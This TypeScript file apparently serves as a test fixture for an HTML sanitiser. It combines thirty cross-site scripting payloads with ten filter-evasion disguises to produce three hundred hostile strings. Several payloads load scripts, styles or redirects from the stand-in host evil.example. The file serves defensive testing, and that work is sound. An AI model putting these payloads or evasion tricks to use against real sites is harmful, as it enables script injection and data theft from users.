/** What an attack would do if it ran: leave a mark on the window. */
const MARK = 'window.pwned=(window.pwned||0)+1'

/** Ways to make a browser run a script, or call a strange host, out of what should be text. */
const ATTACKS = [
  '<script>PWN</script>',
  '<script src=//evil.example/a.js></script>',
  '<img src=x onerror="PWN">',
  '<img src="http://evil.example/p.gif">',
  '<svg/onload=PWN>',
  '<svg><script>PWN</script></svg>',
  '<svg><animate onbegin=PWN attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.PWN</script>"></iframe>',
  '<iframe src="javascript:parent.PWN">',
  '<object data="javascript:PWN">',
  '<embed src="javascript:PWN">',
  '<math href="javascript:PWN">x</math>',
  '<a href="javascript:PWN">tap</a>',
  '<form action="javascript:PWN"><button>go</button></form>',
  '<input autofocus onfocus=PWN>',
  '<video><source onerror=PWN></video>',
  '<details open ontoggle=PWN>',
  '<body onload=PWN>',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<base href=http://evil.example/>',
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  '<style>@import url(http://evil.example/a.css)</style>',
  '<div style="background:url(http://evil.example/b)">',
  '<template shadowrootmode=open><script>PWN</script></template>',
  'javascript:PWN',
  'data:text/html,<script>parent.PWN</script>',
  'vbscript:PWN',
  'http://evil.example/collect',
  '#2EC4B6;background:url(http://evil.example/c)',
  'url(http://evil.example/d)',
].map((attack) => attack.replaceAll('PWN', MARK))

/** Disguises that have got such things past filters. */
const DISGUISES: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `"'>${attack}`,
  (attack) => `</textarea></style></title></script>${attack}`,
  (attack) => `" onmouseover="${MARK}" onfocus='${MARK}' x="${attack}`,
  (attack) => attack.replace(/[a-z](?=[a-z])/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
  (attack) => ` \t\n${attack.replace('javascript:', 'java\tscript:')}`,
  (attack) => attack.replace(/^./, (first) => `&#${first.charCodeAt(0)};`).replaceAll('"', '&quot;'),
  (attack) => `\u202e\u200b${attack}\u0000`,
  (attack) => `{{constructor.constructor("${MARK}")()}}\${${MARK}}[x](${attack})`,
  (attack) => `${encodeURI(attack)}#${attack}`,
]

/** Three hundred texts that must stay texts. */
export const HOSTILE_TEXTS: readonly string[] = DISGUISES.flatMap((disguise) => ATTACKS.map(disguise))
